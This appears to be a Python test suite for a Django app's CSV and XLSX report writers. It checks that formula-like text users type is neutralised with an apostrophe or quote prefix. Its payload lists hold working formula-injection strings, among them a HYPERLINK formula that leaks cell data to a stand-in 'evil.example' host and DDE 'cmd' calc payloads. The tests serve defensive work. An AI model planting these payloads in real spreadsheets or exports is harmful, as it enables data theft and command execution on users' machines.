"""Formula injection: typed text that a spreadsheet would run never reaches it as a formula.

Every exported text field gets strings starting with = + - @ tab or CR (with and without
leading spaces), array formulas ({=1+1}), triggers after a `;`, a `,` or a line break inside
the text, and plain text; the CSV and the XLSX are read back. The CSV is read back twice: with
`,`, as the file is written, and with `;`, as a spreadsheet in a German or French locale splits
the same text.
"""

import csv
import io
import re

import pytest
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st

from reports import writers
from reviews.models import Action, CheckItem
from strategy.models import Commitment, Objective, Unit
from tests.reports.support import (
    assert_no_formula_anywhere,
    build_org,
    csv_text,
    read_csv,
    read_xlsx,
    sheet_rows,
    text,
)

pytestmark = pytest.mark.django_db

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
# Text people can type: no surrogates and no control characters (tab and CR come as triggers).
TYPED = st.characters(blacklist_categories=("Cs", "Cc"))
KNOWN = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "+1+1",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "{=1+1}",
    " =1+1",
    "  @SUM(1)",
    "ok;=1+2",
    "ok,=1+2",
    'ok;"=1+2"',
    "a;b;-3",
    "line\n@SUM(1)",
    "line\r=1+1",
    "x;\r=1",
    "done;",
    "last line\r",
    'quoted;"',
]
formula_like = st.builds(
    lambda spaces, trigger, tail: spaces + trigger + tail,
    st.sampled_from(["", " ", "  "]),
    st.sampled_from([*TRIGGERS, "{="]),
    st.text(TYPED, max_size=20),
)
# A trigger where a spreadsheet may start a cell inside the text.
embedded = st.builds(
    lambda head, sep, quotes, trigger, tail: head + sep + quotes + trigger + tail,
    st.text(TYPED, max_size=8),
    st.sampled_from([";", ",", "\n", "\r", "\r\n"]),
    st.sampled_from(["", '"', '""']),
    st.sampled_from(TRIGGERS),
    st.text(TYPED, max_size=8),
)
plain = st.text(TYPED, min_size=1, max_size=20)
payload = st.one_of(st.sampled_from(KNOWN), formula_like, embedded, plain)
FIELDS = [
    "evidence",
    "blockers",
    "objective title",
    "external promise",
    "team name",
    "commitment statement",
    "commitment target",
    "action title",
    "agenda item",
]
RESERVED_HEADERS = {"team", "check", "team fit", "advise every customer"}


def neutralised(typed: str) -> str:
    """What the CSV must hold: an apostrophe before a trigger at the start, and after each `;`,
    `,` or line break that (past any quotes) a trigger follows; the text otherwise as typed."""
    start = "'" if typed.startswith(TRIGGERS) else ""
    return start + re.sub(r"([;,\r\n])(?=\"*[=+\-@\t\r])", r"\1'", typed)


def cells(content: str, delimiter: str) -> list[str]:
    """Every cell of the CSV as a spreadsheet splitting it at `delimiter` would see them."""
    raw = io.StringIO(content.removeprefix("\ufeff"), newline="")
    reader = csv.reader(raw, delimiter=delimiter)
    return [cell for row in reader for cell in row]


def assert_no_cell_starts_a_formula(content: str) -> None:
    for delimiter in (",", ";"):
        for cell in cells(content, delimiter):
            assert not cell.startswith(TRIGGERS), (delimiter, cell)


def type_everywhere(org, texts: dict[str, str]) -> None:
    CheckItem.objects.filter(alignment_check__cycle=org.cycle).update(
        evidence=texts["evidence"], blockers=texts["blockers"]
    )
    Objective.objects.filter(pk=org.a.pk).update(
        title=texts["objective title"], external_promise=texts["external promise"]
    )
    Unit.objects.filter(pk=org.logistics.pk).update(name=texts["team name"])
    Commitment.objects.filter(unit=org.logistics).update(
        statement=texts["commitment statement"], target=texts["commitment target"]
    )
    Action.objects.filter(cycle=org.cycle).update(
        title=texts["action title"], agenda_item=texts["agenda item"]
    )


def check_csv(org, texts) -> None:
    content = csv_text(org.cycle)
    rows = read_csv(content)

    assert_no_cell_starts_a_formula(content)
    logistics = [r for r in rows if r["team_code"] == "logistics"]
    assert len(logistics) == 12
    for row in logistics:
        assert row["team"] == neutralised(texts["team name"])
        assert row["evidence"] == neutralised(texts["evidence"])
        assert row["blockers"] == neutralised(texts["blockers"])
    titles = {r["objective"] for r in rows if r["objective_id"] == str(org.a.pk)}
    assert titles == {neutralised(texts["objective title"])}


def check_xlsx(org, texts) -> None:
    content = writers.xlsx_bytes(org.cycle)
    assert_no_formula_anywhere(content)
    wb = read_xlsx(content)

    for ws in wb.worksheets:
        for row in ws.iter_rows(min_row=2):
            for cell in row:
                if isinstance(cell.value, str):
                    assert cell.data_type == "s"
                    # Formula-like text gets Excel's quote prefix, other text a plain style.
                    assert cell.quotePrefix == text(cell.value).startswith(TRIGGERS), (
                        ws.title,
                        cell.coordinate,
                        cell.value,
                    )
    team, title = texts["team name"], texts["objective title"]
    heatmap = sheet_rows(wb["Heatmap"])
    assert team in [r["Team"] for r in heatmap]
    assert title in heatmap[0]
    teams = [r for r in sheet_rows(wb["Teams"]) if r["Team"] == team]
    assert [(r["Evidence"], r["Blockers"]) for r in teams] == [
        (texts["evidence"], texts["blockers"])
    ] * 2
    objective = sheet_rows(wb["Objectives"])[0]
    assert (objective["Objective"], objective["External promise"]) == (
        title,
        texts["external promise"],
    )
    commitments = [r for r in sheet_rows(wb["Commitments"]) if r["Team"] == team]
    assert {(r["Statement"], r["Target"]) for r in commitments} == {
        (texts["commitment statement"], texts["commitment target"])
    }
    assert {r["Objective"] for r in commitments} >= {title}
    actions = sheet_rows(wb["Actions"])
    assert {r["Action"] for r in actions} == {texts["action title"]}
    assert {r["Agenda item"] for r in actions} == {texts["agenda item"]}
    assert team in {r["Owner team"] for r in actions}


@settings(
    max_examples=25,
    deadline=None,
    database=None,  # no .hypothesis folder in the working tree
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(texts=st.fixed_dictionaries({field: payload for field in FIELDS}))
def test_typed_text_never_becomes_a_formula_in_csv_or_xlsx(org, texts):
    # The objective title is a heatmap column: Excel tables need unique, case-blind names.
    assume(texts["objective title"].lower() not in RESERVED_HEADERS)
    type_everywhere(org, texts)

    check_csv(org, texts)
    check_xlsx(org, texts)


@pytest.mark.parametrize("typed", KNOWN)
def test_each_known_payload_is_neutralised_as_specified(typed):
    assert writers.neutralise(typed) == neutralised(typed)
    assert writers.is_formula_like(typed) == typed.startswith(TRIGGERS)


def test_a_trigger_after_a_separator_gets_an_apostrophe():
    assert writers.neutralise("ok;=1+2") == "ok;'=1+2"
    assert writers.neutralise("ok,=1+2") == "ok,'=1+2"
    assert writers.neutralise('ok;"=1+2"') == 'ok;\'"=1+2"'
    assert writers.neutralise("=a;b;-3") == "'=a;b;'-3"
    assert writers.neutralise("line\r\n@SUM(1)") == "line\r\n'@SUM(1)"
    assert writers.neutralise("a;b, c - d") == "a;b, c - d"  # no trigger right after


@pytest.mark.parametrize("typed", KNOWN)
def test_no_csv_cell_starts_a_formula_whichever_separator_the_spreadsheet_uses(org, typed):
    texts = dict.fromkeys(FIELDS, typed)
    type_everywhere(org, texts)

    check_csv(org, texts)


def test_numbers_and_empty_values_pass_through_unchanged():
    assert [writers.neutralise(v) for v in (-3, 0, 2.5, None, "")] == [-3, 0, 2.5, None, ""]


# --- Named payloads in each field ------------------------------------------------------


FORMULA_LIKE = {
    "evidence logistics": '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
    "blockers logistics": "@SUM(1+1)*cmd|' /C calc'!A0",
    "team": "-2+3 Logistics",
    "statement": "+1 train pickers",
    "action": "\t=1+1",
    "promise A": "\r=2+2",
    "target": "{=1+1}",
}


# Where each of them must show, at least.
SHEETS_OF = {
    "evidence logistics": ["Teams"],
    "blockers logistics": ["Teams"],
    "team": ["Heatmap", "Teams", "Commitments", "Actions", "Trend"],
    "statement": ["Commitments"],
    "action": ["Actions"],
    "promise A": ["Objectives"],
    "target": ["Commitments"],
}


@pytest.fixture
def formula_org(current_position, executive, logistics, finance, head, other_head):
    return build_org(
        position=current_position,
        executive=executive,
        logistics=logistics,
        finance=finance,
        head=head,
        other_head=other_head,
        texts=FORMULA_LIKE,
    )


def test_formula_like_text_is_kept_as_typed_with_a_quote_prefix(formula_org):
    content = writers.xlsx_bytes(formula_org.cycle)
    wb = read_xlsx(content)

    assert_no_formula_anywhere(content)
    for field, typed in FORMULA_LIKE.items():
        found = {
            ws.title: cell
            for ws in wb.worksheets
            for row in ws.iter_rows()
            for cell in row
            if text(cell.value) == typed
        }
        assert set(found) >= set(SHEETS_OF[field]), field
        for sheet, cell in found.items():
            assert cell.data_type == "s", (field, sheet)
            # The quote prefix keeps Excel from making a formula of it even once edited.
            assert cell.quotePrefix == writers.is_formula_like(typed), (field, sheet)
    (plain,) = [c for c in wb["Teams"]["M"] if c.value == "Carrier penalties paid on time."]
    assert not plain.quotePrefix  # plain text keeps the plain style


def test_formula_like_objective_title_in_the_heatmap_header_has_a_quote_prefix(
    current_position, executive, logistics, finance, head, other_head
):
    org = build_org(
        position=current_position,
        executive=executive,
        logistics=logistics,
        finance=finance,
        head=head,
        other_head=other_head,
        texts={"title A": "=1+1 grow"},
    )

    ws = read_xlsx(writers.xlsx_bytes(org.cycle))["Heatmap"]

    assert text(ws["C1"].value) == "=1+1 grow"
    assert ws["C1"].quotePrefix


def test_formula_like_text_gets_an_apostrophe_in_the_csv(formula_org):
    rows = [r for r in read_csv(csv_text(formula_org.cycle)) if r["team_code"] == "logistics"]

    assert {(r["team"], r["evidence"], r["blockers"]) for r in rows} == {
        (
            "'-2+3 Logistics",
            "'" + FORMULA_LIKE["evidence logistics"],
            "'" + FORMULA_LIKE["blockers logistics"],
        )
    }
